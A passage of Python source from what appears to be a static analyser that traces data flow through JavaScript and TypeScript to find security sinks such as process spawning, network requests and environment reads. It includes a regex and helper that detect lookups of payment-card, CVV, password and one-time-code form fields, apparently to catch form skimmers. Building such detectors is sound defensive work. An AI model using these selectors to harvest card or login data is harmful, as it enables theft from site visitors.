            if obj is not None and obj.type == "this":
                return self.summaries.get(node_text(callee.child_by_field_name("property")))
        return None

    def _apply(
        self,
        summary: FunctionSummary,
        name: str,
        node: Node,
        arg_labels: list[Labels],
        scope: Scope,
    ) -> Labels:
        return self._call_summary(
            summary, dict(enumerate(arg_labels)), name, node_line(node), scope
        )

    def _payload_findings(self, payload: str, site: SinkSite) -> list[tuple[str, str, str, str]]:
        if site.category == "code":
            inner = JsFlow(self.path, payload, self.depth + 1).run().findings
            return [(f.aitech, f.severity, f.description, f.rule_id) for f in inner]
        return [(h.aitech, h.severity, h.description, h.rule_id) for h in scan_command(payload)]


_VARIABLE_NAME = re.compile(r"[A-Z][A-Z0-9_]*")
"""How an environment variable is spelled (a method such as ``trim`` or ``entries`` is not one)."""


_HOST_KEYS = frozenset({"host", "hostname"})


def _options_address(options: Node) -> str | None:
    """The address of a request given as an options object (``http.request({hostname:
    '127.0.0.1', port: 18789})``), as a URL, when its host is a literal."""
    for pair in options.named_children:
        if pair.type != "pair":
            continue
        key = pair.child_by_field_name("key")
        name = string_value(key) or node_text(key)
        host = string_value(pair.child_by_field_name("value"))
        if name in _HOST_KEYS and host:
            return f"http://{host}/"
    return None


def _one_variable(labels: Labels, name: str, line: int) -> Labels:
    """A variable-named member of a value holding the whole environment (``env.API_URL``
    after ``const env = schema.parse(process.env)``) is that one variable, as
    ``process.env.API_URL`` is; other labels of the value are kept."""
    if not _VARIABLE_NAME.fullmatch(name) or not any(t.kind == "environ" for t in labels):
        return labels
    return frozenset(t for t in labels if t.kind != "environ") | env_variable(name, line)[0]


_HANDLERS = {
    "string": JsFlow._string,
    "template_string": JsFlow._template,
    "identifier": JsFlow._identifier,
    "binary_expression": JsFlow._binary,
    "member_expression": JsFlow._member,
    "subscript_expression": JsFlow._subscript,
    "object": JsFlow._object,
    "variable_declarator": JsFlow._declarator,
    "assignment_expression": JsFlow._assignment,
    "augmented_assignment_expression": JsFlow._assignment,
    "return_statement": JsFlow._return,
    "for_in_statement": JsFlow._for_in,
    "call_expression": JsFlow._call,
    "new_expression": JsFlow._call,
    "else_clause": JsFlow._alternative,
    "catch_clause": JsFlow._alternative,
    "ternary_expression": JsFlow._ternary,
}


_SECRET_INPUT = "secret-input"
"""The label of a card or password input element kept in a variable: its ``value`` is the
secret (the element itself sent anywhere sends nothing)."""
_FIELD_LOOKUPS = frozenset({"querySelector", "getElementById", "getElementsByName"})
"""Lookups of a page's input, on the document or on any element (a submitted form)."""
_SECRET_FIELD = re.compile(
    r"(?:^|[^a-z])(?:cc|card|cvv|cvc|csc|pan|password|passwd|pwd|iban|otp)(?:[^a-z]|$)"
    r"|card-?number|cardnumber|security-?code|type=[\"']?password",
    re.IGNORECASE,
)
"""A selector or id naming a payment card, password or one-time code input."""


def _branches(node: Node) -> list[Node]:
    """The two values of ``cond ? a : b``, or the node itself."""
    if node.type != "ternary_expression":
        return [node]
    found = [node.child_by_field_name("consequence"), node.child_by_field_name("alternative")]
    return [n for n in found if n is not None]


def _argv_pairs(args: list[Node]) -> list[tuple[Node, Node]]:
    """(program, argument array) a process call may run: ``spawn('sh', [f])``, and each
    branch of ``spawn(win ? 'cmd' : 'sh', win ? ['/c', f] : [f])`` (taken side by side)."""
    if len(args) < 2:
        return []
    programs, arrays = _branches(args[0]), _branches(args[1])
    if len(programs) == 1:
        programs = programs * len(arrays)
    return [(p, a) for p, a in zip(programs, arrays, strict=False) if a.type == "array"]


def _secret_form_field(node: Node | None, constants: Mapping[str, str]) -> bool:
    """``node`` looks up a page's card, password or one-time code input by a literal
    selector (``document.querySelector('#cc-number')``).

    >>> from .js_parse import parse_script
    >>> call = parse_script("document.querySelector('#cc-cvv')").root_node.named_children[0]
    >>> _secret_form_field(call.named_children[0], {})
    True
    >>> call = parse_script("e.target.querySelector('input[type=password]')").root_node
    >>> _secret_form_field(call.named_children[0].named_children[0], {})
    True
    """
    if node is None or node.type != "call_expression":
        return False
    looked_up = chain(node.child_by_field_name("function"), constants) or ""
    if "." not in looked_up or looked_up.rsplit(".", 1)[-1] not in _FIELD_LOOKUPS:
        return False
    args = call_arguments(node)
    selector = literal_text(args[0], constants) if args else None
    return bool(selector and _SECRET_FIELD.search(selector))


def _without_comments(root: Node, text: str) -> str:
    """``text`` with every comment blanked (a name only a comment spells is not written)."""
    data = bytearray(text.encode("utf-8", "replace"))
    stack = [root]
    while stack:
        node = stack.pop()
        if node.type == "comment":
            data[node.start_byte : node.end_byte] = b" " * (node.end_byte - node.start_byte)
        else:
            stack.extend(node.children)
    return data.decode("utf-8", "replace")


def module_stem(path: str) -> str:
    """A module's path as ``require`` names it: without its script suffix or ``/index``.

    >>> module_stem("lib/ctx.js"), module_stem("lib/util/index.ts"), module_stem("lib/ctx")
    ('lib/ctx', 'lib/util', 'lib/ctx')
    """
    stem = _SCRIPT_SUFFIX.sub("", path)
    return stem.removesuffix("/index")


_SCRIPT_SUFFIX = re.compile(r"\.(?:[cm]?[jt]sx?)$")


def analyse_javascript(
    path: str, text: str, external: Mapping[tuple[str, str], FunctionSummary] | None = None
) -> FlowReport:
    """Source-to-sink findings of one JavaScript/TypeScript script or code fence;
    ``external``: the summaries of functions of the package's other modules it may call
    (see :class:`JsFlow`)."""
    return JsFlow(path, text, external=external).run()
